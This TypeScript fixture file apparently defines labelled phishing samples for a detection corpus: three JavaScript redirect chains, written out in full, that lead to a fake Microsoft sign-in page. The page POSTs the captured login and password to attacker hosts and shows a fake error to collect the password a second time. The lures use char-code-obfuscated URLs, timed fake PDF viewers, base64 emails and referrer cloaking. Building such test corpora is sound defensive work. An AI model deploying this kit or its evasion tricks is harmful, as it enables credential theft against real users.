import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import type { Route } from '../../corpus/corpus.js';

// Lures whose hop to the kit happens in script or meta refresh.
const raw = String.raw;

/** A small Microsoft sign-in kit; each chain below lands on its own copy of it. */
const msKit = (sink: string): string => raw`<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Sign in to your account</title>
<style>body{margin:0;background:#f0f4f9;font-family:"Segoe UI",sans-serif}.b{width:440px;max-width:92vw;margin:90px auto;background:#fff;padding:44px;box-sizing:border-box;box-shadow:0 2px 6px #0003}.m{display:grid;grid-template-columns:10px 10px;gap:1px;margin-bottom:16px}.m i{width:10px;height:10px}.t{font-size:24px;font-weight:600;margin-bottom:14px}input{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;outline:0;margin-bottom:16px}button{float:right;background:#0067b8;color:#fff;border:0;padding:7px 30px;font-size:15px}.e{color:#e81123;font-size:14px}</style></head>
<body><div class="b" id="b"></div><script>
var em=decodeURIComponent((location.search.match(/[?&](?:e|email|u)=([^&]+)/)||location.hash.match(/#(.+)/)||[,''])[1]);if(em&&em.indexOf('@')<0){try{em=atob(em)}catch(x){}}
var L='<div class="m"><i style="background:#f25022"></i><i style="background:#7fba00"></i><i style="background:#00a4ef"></i><i style="background:#ffb900"></i></div>';
var b=document.getElementById('b'),n=0;
function a(){b.innerHTML=L+'<div class="t">Sign in</div><div class="e" id="er"></div><input id="u" type="email" placeholder="Email, phone, or Skype" value="'+em+'"><button id="x">Next</button><div style="clear:both"></div>';document.getElementById('x').onclick=function(){em=document.getElementById('u').value;if(em.indexOf('@')>0)p()}}
function p(){b.innerHTML=L+'<div style="font-size:14px">'+em+'</div><div class="t">Enter password</div><div class="e" id="er"></div><input id="pw" type="password" placeholder="Password"><button id="x">Sign in</button><div style="clear:both"></div>';document.getElementById('x').onclick=function(){var v=document.getElementById('pw').value;if(!v)return;n++;fetch('${sink}',{method:'POST',mode:'no-cors',body:JSON.stringify({login:em,passwd:v,n:n})});if(n<2){document.getElementById('er').textContent='Your account or password is incorrect.';document.getElementById('pw').value=''}else location.replace('https://portal.office.com')}}
em?p():a();
</script></body></html>`;

export const entries: Entry[] = [
  {
    id: 'c-redir-302-meta-js',
    label: 'phishing',
    kind: 'js-redirect-chain',
    url: 'https://trk.mailsvc-link.com/c/9f2e71ab?r=1',
    routes: {
      'trk.mailsvc-link.com/c/9f2e71ab': redirectRoute(302, 'https://bright-hills-realty.com/.well-known/pki-validation/doc/'),
      'bright-hills-realty.com/.well-known/pki-validation/doc/': htmlRoute(raw`<html><head><meta http-equiv="refresh" content="0;url=https://bright-hills-realty.com/.well-known/pki-validation/doc/v.html"></head><body></body></html>`),
      'bright-hills-realty.com/.well-known/pki-validation/doc/v.html': htmlRoute(raw`<!doctype html><html><head><title>&#8203;</title></head><body>
<script>
(function(){
  var p = [104,116,116,112,115,58,47,47,115,105,103,110,105,110,45,111,102,102,105,99,101,51,54,53,46,115,101,99,117,114,101,45,112,111,114,116,97,108,46,119,111,114,107,101,114,115,46,100,101,118,47];
  var t = String.fromCharCode.apply(null, p) + '?sso_reload=true';
  if (document.referrer.indexOf('google') > -1) { document.body.innerHTML = '<h1>Bright Hills Realty</h1>'; return; }
  top.location.href = t;
})();
</script></body></html>`),
      'signin-office365.secure-portal.workers.dev/': htmlRoute(msKit('https://signin-office365.secure-portal.workers.dev/api/s')),
    },
  },
  {
    id: 'c-redir-docviewer-timeout',
    label: 'phishing',
    kind: 'js-redirect-chain',
    url: 'https://docs-viewer-online.net/d/7Hq2LxR/Contract_Amendment_2024.pdf',
    body: raw`<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Contract_Amendment_2024.pdf</title>
<style>
body{margin:0;font-family:Segoe UI,Helvetica,Arial,sans-serif;background:#323639;color:#fff}
.tb{height:48px;background:#202124;display:flex;align-items:center;padding:0 16px;gap:14px;font-size:14px}
.tb .n{flex:1}
.pg{width:612px;max-width:92vw;height:792px;background:#fff;margin:24px auto;position:relative;color:#222;overflow:hidden}
.pg .ln{height:10px;background:#e4e4e4;margin:14px 40px;border-radius:2px}
.st{position:absolute;inset:0;background:rgba(255,255,255,.86);display:flex;flex-direction:column;align-items:center;justify-content:center;font-size:15px}
.bar{width:240px;height:6px;background:#ddd;border-radius:3px;margin-top:14px;overflow:hidden}.bar i{display:block;height:100%;width:0;background:#1a73e8;transition:width .3s}
</style></head>
<body>
<div class="tb"><span class="n">Contract_Amendment_2024.pdf</span><span>1 / 3</span><span>100%</span></div>
<div class="pg" id="pg"><div class="st"><div id="m">Loading secure document preview…</div><div class="bar"><i id="b"></i></div></div></div>
<script>
for (var i = 0; i < 30; i++) { var d = document.createElement('div'); d.className = 'ln'; d.style.width = (40 + Math.random() * 50) + '%'; document.getElementById('pg').appendChild(d); }
var steps = ['Loading secure document preview…', 'Decrypting file…', 'Verifying recipient…', 'Redirecting to secure sign-in…'], k = 0;
var it = setInterval(function () {
  k++; document.getElementById('b').style.width = (k * 25) + '%'; document.getElementById('m').textContent = steps[Math.min(k, 3)];
  if (k >= 4) { clearInterval(it); var a = ['https:', '', 'doc-auth.sharepoint-files.online', 'sites', 'shared', 'auth.html'].join('/'); window.location = a + '?u=' + btoa('j.hernandez@contoso-partners.com'); }
}, 700);
</script></body></html>`,
    routes: {
      'doc-auth.sharepoint-files.online/sites/shared/auth.html': htmlRoute(msKit('https://doc-auth.sharepoint-files.online/sites/shared/post.php')),
    },
  },
  {
    id: 'c-redir-qr-landing-hash',
    label: 'phishing',
    kind: 'js-redirect-chain',
    url: 'https://mfa-reset.hr-benefits-portal.com/q/2FA-RESET#bWFyay5qb2huc29uQHJpdmVyc2lkZS1tZmcuY29t',
    body: raw`<!doctype html><html><head><meta name="viewport" content="width=device-width,initial-scale=1"><meta charset="utf-8"><title>Authenticator</title>
<style>body{font-family:system-ui,sans-serif;text-align:center;padding-top:30vh;color:#333}</style></head>
<body><p id="s">Verifying your device…</p>
<script>
(async () => {
  const id = location.hash.slice(1);
  const r = await fetch('/q/route?k=2FA-RESET').then(x => x.json()).catch(() => null);
  if (!r || !r.u) { document.getElementById('s').textContent = 'This code has expired.'; return; }
  document.getElementById('s').textContent = 'Redirecting…';
  setTimeout(() => location.replace(r.u + '#' + id), r.d || 500);
})();
</script></body></html>`,
    routes: {
      'mfa-reset.hr-benefits-portal.com/q/route': { status: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify({ u: 'https://mfa-reset.hr-benefits-portal.com/s/login/', d: 700 }) },
      'mfa-reset.hr-benefits-portal.com/s/login/': htmlRoute(msKit('https://mfa-reset.hr-benefits-portal.com/s/login/post')),
    },
  },
];
